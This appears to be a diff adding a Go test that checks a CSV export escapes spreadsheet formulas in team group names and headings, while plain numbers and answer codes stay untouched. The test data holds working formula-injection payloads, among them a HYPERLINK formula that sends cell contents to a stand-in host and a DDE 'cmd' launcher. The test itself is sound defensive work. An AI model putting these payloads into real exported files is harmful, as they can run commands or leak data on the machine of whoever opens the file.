@@ -105,3 +105,44 @@ func TestEmbeddedLogicIsTheProjects(t *testing.T) {
 		t.Error("the embedded logic differs from assets/scan/*.ts")
 	}
 }
+
+// TestAnswersCSVRunsNoFormula: a group name or heading from a team's file that a spreadsheet
+// would run as a formula reaches the export behind an apostrophe, so that opening the file in
+// Excel runs nothing; answer codes and a group named by a plain number stay as they are.
+func TestAnswersCSVRunsNoFormula(t *testing.T) {
+	m := mod(t)
+	hostile := []string{`=HYPERLINK("https://example.org/?"&A1;"klik")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
+	plain := []string{"-3", "+31", "12,5", "Teamleider"}
+	values := append(append([]string{}, hostile...), plain...)
+	var resp []map[string]string
+	for range values {
+		resp = append(resp, map[string]string{kb.Determinants[0].ID: "2"})
+	}
+	raw, err := m.Call("answersCSV", resp, map[string]any{"heading": "=Functie()", "values": values})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var text string
+	_ = json.Unmarshal(raw, &text)
+	r := csv.NewReader(strings.NewReader(text))
+	r.Comma = ';'
+	rows, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("the export is no CSV: %v\n%s", err, text)
+	}
+	if rows[0][1] != "'=Functie()" {
+		t.Errorf("the group heading is written %q, want it behind an apostrophe", rows[0][1])
+	}
+	for i, v := range values {
+		want := v
+		if i < len(hostile) {
+			want = "'" + v
+		}
+		if got := rows[i+1][1]; got != want {
+			t.Errorf("group value %q is written %q, want %q", v, got, want)
+		}
+		if got := rows[i+1][2]; got != "2" {
+			t.Errorf("an answer code is written %q, want 2", got)
+		}
+	}
+}
